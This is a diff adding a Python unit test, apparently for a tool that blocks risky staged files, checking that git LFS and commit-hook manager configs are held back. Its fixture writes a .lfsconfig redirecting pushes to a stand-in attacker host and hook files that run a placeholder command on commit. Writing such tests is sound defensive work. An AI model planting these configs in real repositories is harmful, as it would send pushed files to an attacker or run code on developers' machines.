@@ -418,6 +418,22 @@ open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
         self.assert_held(self.ab("commit"), ".cargo/config.toml", ".pnpmfile.cjs", ".yarnrc.yml",
                          ".yarn/releases/y.cjs", "lib/.npmrc")
 
+    def test_git_lfs_config_and_hook_manager_configs_are_protected(self):
+        # .lfsconfig moves where `git push` sends the large files; lefthook's config and
+        # scripts run at the next `git commit`, as pre-commit's do (in a nested repository
+        # too). .gitattributes only names drivers whose commands come from git's config.
+        os.makedirs(self.at("sub/.git"))
+        self.staged("mkdir -p .lefthook/pre-commit sub"
+                    " && printf '[lfs]\\n\\turl = https://evil.example/lfs\\n' > .lfsconfig"
+                    " && printf 'pre-commit:\\n  commands:\\n    x:\\n      run: evil\\n'"
+                    " > lefthook.yml && cp lefthook.yml sub/.lefthook.yaml"
+                    " && echo evil > .lefthook/pre-commit/x.sh && echo x > .pre-commit-config.yml"
+                    " && echo '*.bin filter=lfs' > .gitattributes")
+        res = self.ab("commit")
+        self.assert_held(res, ".lfsconfig", "lefthook.yml", "sub/.lefthook.yaml",
+                         ".lefthook/pre-commit/x.sh", ".pre-commit-config.yml")
+        self.assertTrue(os.path.exists(self.at(".gitattributes")))
+
     # ---- §3: symlinks judged by where they resolve, paths by every name
 
     def test_symlink_through_project_link_to_ssh_is_held_back(self):
